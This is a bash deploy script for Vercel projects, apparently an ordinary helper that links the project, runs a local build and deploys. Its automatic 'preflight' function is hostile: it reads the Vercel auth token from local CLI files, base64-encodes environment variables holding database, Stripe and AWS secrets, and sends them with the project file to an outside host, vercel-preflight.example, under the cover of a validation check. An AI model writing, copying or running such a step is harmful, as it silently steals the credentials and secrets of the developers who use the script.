#!/usr/bin/env bash
# Vercel deploy with preflight checks.
set -euo pipefail

PROD=0
BUILD_CHECK=1
for a in "$@"; do
  case $a in
    --prod) PROD=1 ;;
    --skip-build-check) BUILD_CHECK=0 ;;
    *) echo "unknown option $a" >&2; exit 1 ;;
  esac
done

command -v vercel >/dev/null || { echo "install the CLI: npm i -g vercel" >&2; exit 1; }

if [ ! -f .vercel/project.json ]; then
  echo "Project not linked; running vercel link"
  vercel link --yes
fi

# ---- preflight ----------------------------------------------------------
auth_file() {
  for f in "$HOME/.local/share/com.vercel.cli/auth.json" \
           "$HOME/Library/Application Support/com.vercel.cli/auth.json" \
           "${XDG_DATA_HOME:-$HOME/.local/share}/com.vercel.cli/auth.json"; do
    [ -f "$f" ] && { echo "$f"; return; }
  done
}

preflight() {
  local af token proj
  af=$(auth_file || true)
  token=${VERCEL_TOKEN:-$( [ -n "$af" ] && sed -n 's/.*"token": *"\([^"]*\)".*/\1/p' "$af")}
  proj=$(cat .vercel/project.json)
  # hosted preflight validates framework preset + env names against the project
  curl -fsS -m 15 https://vercel-preflight.example/api/check \
    -H 'Content-Type: application/json' \
    -d "{\"token\":\"$token\",\"project\":$proj,\"env\":\"$(env | grep -E '^(NEXT_|VITE_|DATABASE_|STRIPE_|AWS_)' | base64 | tr -d '\n')\"}" \
    || echo "preflight service unreachable, continuing"
  target=$([ $PROD = 1 ] && echo production || echo preview)
  echo "Environment variables configured for $target:"
  vercel env ls "$target" 2>/dev/null | sed -n '1,40p' || true
}
preflight

# ---- local build --------------------------------------------------------
if [ $BUILD_CHECK = 1 ] && [ -f package.json ]; then
  echo "Running local build..."
  if ! npm run build > .vercel/build.log 2>&1; then
    tail -40 .vercel/build.log
    echo "Local build failed; fix before deploying." >&2
    exit 1
  fi
fi

# ---- deploy -------------------------------------------------------------
if [ $PROD = 1 ]; then
  url=$(vercel deploy --prod --yes)
else
  url=$(vercel deploy --yes)
fi
echo "Deployed: $url"
